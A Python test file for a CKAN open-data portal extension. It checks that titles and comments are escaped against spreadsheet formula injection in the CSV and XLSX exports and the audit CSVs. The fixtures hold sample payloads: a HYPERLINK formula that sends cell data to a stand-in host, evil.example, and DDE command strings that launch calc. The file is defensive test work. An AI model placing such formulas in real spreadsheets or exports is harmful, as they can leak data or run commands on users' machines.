"""Issue 18 item 9: text typed by agencies and reviewers (titles, comments) reaches the assessment
exports, the problems export, the audit CSV and the metadata audit as text, never as a live
formula; numbers stay numbers."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from click.testing import CliRunner

import ckan.model as model
import ckan.plugins.toolkit as tk

from ckanext.harbin_opendata.assessment import linkcheck
from ckanext.harbin_opendata.common.cells import is_formula_like, neutralise
from ckanext.harbin_opendata.metadata.cli import audit_command
from ckanext.harbin_opendata.review import audit
from ckanext.harbin_opendata.tests.web import logged_in_client

from ..assessment.conftest import http_server, portal  # noqa: F401 - fixtures

HOSTILE_AGENCY = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
HOSTILE_ENTRY = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "-cmd|x", "--1", "－1+1"])
def test_formula_like_text_is_neutralised(value):
    assert is_formula_like(value) and neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [12, -5, 3.5, "-12.5", "+3", "1e5", "哈尔滨市", "a=b", "", None,
                                   "-", "－"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert neutralise(value) == value


@pytest.fixture
def hostile(portal):  # noqa: F811
    agency = model.Group.get("hrb-a")
    agency.title = HOSTILE_AGENCY
    model.Package.get("a-bare").title = HOSTILE_ENTRY
    model.repo.commit()
    linkcheck.check_links()
    tk.get_action("harbin_assessment_compute")({"user": portal.sysadmin}, {})
    return portal


def _csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_assessment_exports(hostile, app):
    rows = _csv(app.get("/assessment/export.csv").data)
    [row] = [r for r in rows if r[2] == "hrb-a"]
    assert row[1] == "'" + HOSTILE_AGENCY and float(row[3]) >= 0  # the score is still a number
    sheet = openpyxl.load_workbook(io.BytesIO(app.get("/assessment/export.xlsx").data)).active
    [cells] = [r for r in sheet.iter_rows(min_row=2) if r[2].value == "hrb-a"]
    assert cells[1].value == HOSTILE_AGENCY and cells[1].data_type == "s"  # shown as typed, never evaluated
    assert isinstance(cells[3].value, (int, float)) and cells[3].data_type == "n"


def test_problems_export(hostile, app):
    reviewer = logged_in_client(app, hostile.reviewer)
    rows = _csv(reviewer.get("/assessment/problems/export.csv").data)
    titles = {row[3] for row in rows[1:]}
    assert "'" + HOSTILE_ENTRY in titles and HOSTILE_ENTRY not in titles
    assert {row[0] for row in rows[1:] if row[0].endswith("点击查看\")")} == {"'" + HOSTILE_AGENCY}
    sheet = openpyxl.load_workbook(io.BytesIO(reviewer.get("/assessment/problems/export.xlsx").data)).active
    hostile_cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value in (HOSTILE_ENTRY, HOSTILE_AGENCY)]
    assert hostile_cells and {c.data_type for c in hostile_cells} == {"s"}


def test_audit_csv(hostile):
    audit.record("returned", model.User.get(hostile.reviewer), model.Package.get("a-bare"),
                 comment="=cmd|' /C calc'!A0")
    model.repo.commit()
    out = io.StringIO()
    audit.write_csv(audit.events_since(), out)
    rows = _csv(out.getvalue().encode())
    comment = rows[0].index("comment")  # (details follow it)
    comments = [row[comment] for row in rows[1:] if row[3] == "returned"]
    assert comments == ["'=cmd|' /C calc'!A0"]
    assert all(row[0].isdigit() for row in rows[1:])  # ids stay plain numbers


def test_metadata_audit_csv(hostile):
    entry = model.Package.get("a-bare")
    entry.title, entry.extras["data_domain"] = "=1+1", ""  # an entry the audit lists
    model.repo.commit()
    result = CliRunner().invoke(audit_command, ["--csv"])
    titles = [row[2] for row in _csv(result.output.encode())[1:]]
    assert "'=1+1" in titles and "=1+1" not in titles
